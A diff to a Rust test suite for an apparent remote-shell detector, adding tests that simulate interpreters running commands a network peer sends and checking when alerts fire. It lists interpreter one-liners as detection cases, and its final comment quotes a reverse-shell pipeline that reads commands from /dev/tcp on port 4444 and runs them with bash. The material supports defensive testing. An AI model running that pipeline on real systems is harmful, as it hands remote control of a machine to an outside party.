@@ -22,6 +22,8 @@ struct Session {
     /// The process that runs, and the number of those that have run.
     child: Option<u32>,
     children: u32,
+    /// Number of scans between an answer and the next command.
+    pause: u32,
     found: Vec<String>,
 }
 
@@ -36,6 +38,7 @@ impl Session {
             sent: 0,
             child: None,
             children: 0,
+            pause: 15,
             found: Vec::new(),
         };
         session.wait(1);
@@ -72,7 +75,7 @@ impl Session {
 
     /// The peer sends a command, which runs, and is answered.
     fn command(&mut self) {
-        self.wait(15);
+        self.wait(self.pause);
         self.received += 3;
         self.wait(1);
         self.start();
@@ -80,6 +83,12 @@ impl Session {
         self.sent += 40;
         self.wait(1);
         self.child = None;
+        self.wait(1);
+    }
+
+    /// Time without a scan.
+    fn sleep(&mut self, seconds: i64) {
+        self.watch.now = self.watch.now.after(seconds * 1_000_000_000);
         self.wait(1);
     }
 
@@ -124,7 +133,7 @@ fn programs_that_are_somebodys_file_raise_no_alert() {
 }
 
 #[test]
-fn what_does_not_write_to_the_peer_raises_no_alert() {
+fn what_does_not_write_to_a_peer_that_answers_soon_raises_no_alert() {
     let session = Session::new("bash", "bash -c x", Output::Elsewhere);
     assert_eq!(session.commands(20), [""; 0]);
 }
@@ -181,6 +190,121 @@ fn a_program_that_spoke_first_has_to_take_more_turns() {
     };
     assert_eq!(session().commands(7), [""; 0]);
     assert_eq!(session().commands(8), FOUND);
+}
+
+/// A session whose commands write to a file, with a peer that takes its time.
+fn by_order(file: &'static str, line: &'static str) -> Session {
+    let mut session = Session::new(file, line, Output::Elsewhere);
+    session.pause = 40;
+    session
+}
+
+/// Case 16 of the second field test.
+#[test]
+fn a_program_that_sends_something_after_each_command_is_reported_and_again_when_it_is_sure() {
+    for (file, line) in [
+        ("python3.11", "python3 -c x"),
+        ("python3.11", "python3 /tmp/x.py"),
+        ("php8.2", "php -r x"),
+        ("lua5.4", "lua5.4 -e x"),
+        ("ruby3.1", "ruby -rsocket -e x"),
+        ("perl", "perl -e x"),
+        ("tclsh8.6", "tclsh8.6"),
+        ("bash", "bash -c x"),
+    ] {
+        let found = |count| by_order(file, line).commands(count);
+        assert_eq!(found(2), [""; 0], "{line}");
+        assert_eq!(found(3), FOUND, "{line}");
+        assert_eq!(found(5), FOUND, "{line}");
+        let twice = [FOUND[0], FOUND[0]];
+        assert_eq!((found(6), found(20)), (twice.map(str::to_string).to_vec(), found(6)));
+    }
+    assert_eq!(by_order("python3.11", "python3 /usr/lib/agent.py").commands(20), [""; 0]);
+}
+
+#[test]
+fn a_command_may_take_minutes_to_start_and_to_end() {
+    for output in [Output::Elsewhere, Output::Pipe, Output::Connection] {
+        let mut session = Session::new("python3.11", "python3 -c x", output);
+        for turn in 1..=3 {
+            session.sleep(600);
+            session.received += 3;
+            session.wait(1);
+            session.sleep(180);
+            session.start();
+            session.wait(2);
+            session.sleep(180);
+            session.child = None;
+            session.wait(1);
+            session.sent += 40;
+            session.wait(2);
+            assert_eq!(session.found.len(), usize::from(turn == 3), "{output:?} {turn}");
+        }
+    }
+}
+
+#[test]
+fn a_peer_that_speaks_at_once_is_first() {
+    let mut session = by_order("python3.11", "python3 -c x");
+    session.received += 3;
+    session.wait(1);
+    session.start();
+    session.wait(2);
+    session.child = None;
+    session.sent += 10;
+    session.wait(1);
+    assert_eq!(session.commands(2), FOUND);
+}
+
+/// SMTP, FTP, MySQL: the server greets, the client logs in and then runs something for each reply.
+#[test]
+fn a_client_that_was_greeted_raises_no_alert_by_order() {
+    let mut session = by_order("python3.11", "python3 -c x");
+    session.wait(40);
+    session.received += 30;
+    session.wait(5);
+    session.sent += 30;
+    session.wait(1);
+    assert_eq!(session.commands(20), [""; 0]);
+}
+
+#[test]
+fn a_client_that_spoke_first_raises_no_alert_by_order() {
+    let mut session = by_order("python3.11", "python3 -c x");
+    session.sent += 10;
+    session.wait(1);
+    assert_eq!(session.commands(20), [""; 0]);
+}
+
+#[test]
+fn turns_by_order_count_in_a_row() {
+    let mut session = by_order("python3.11", "python3 -c x");
+    for _ in 0..8 {
+        (0..2).for_each(|_| session.command());
+        // It sends something that nothing was started for.
+        session.wait(40);
+        session.sent += 10;
+        session.wait(1);
+    }
+    assert_eq!(session.found, [""; 0]);
+    for _ in 0..8 {
+        (0..2).for_each(|_| session.command());
+        // The peer asks for something that the program knows itself.
+        session.wait(40);
+        session.received += 10;
+        session.wait(2);
+        session.sent += 10;
+        session.wait(1);
+    }
+    assert_eq!(session.found, [""; 0]);
+    for _ in 0..8 {
+        (0..2).for_each(|_| session.command());
+        // The peer confirms what it was sent, as servers do.
+        session.received += 2;
+        session.wait(1);
+    }
+    assert_eq!(session.found, [""; 0]);
+    assert_eq!(session.commands(3), FOUND);
 }
 
 /// Field test A56: `cat < /dev/tcp/A/4444 | xargs -I{} bash -c {}`.
